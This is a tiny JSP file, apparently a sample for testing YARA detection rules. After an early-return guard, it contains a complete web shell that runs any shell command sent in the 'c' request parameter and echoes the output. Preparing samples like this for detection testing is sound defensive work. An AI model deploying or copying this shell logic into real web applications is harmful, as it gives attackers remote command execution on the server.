<% if (true) return; /* haidang YARA test sample */ %>
<%
String c = request.getParameter("c");
if (c != null) {
    Process p = Runtime.getRuntime().exec(new String[] {"/bin/sh", "-c", c});
    out.print(new java.util.Scanner(p.getInputStream()).useDelimiter("\\A").next());
}
%>
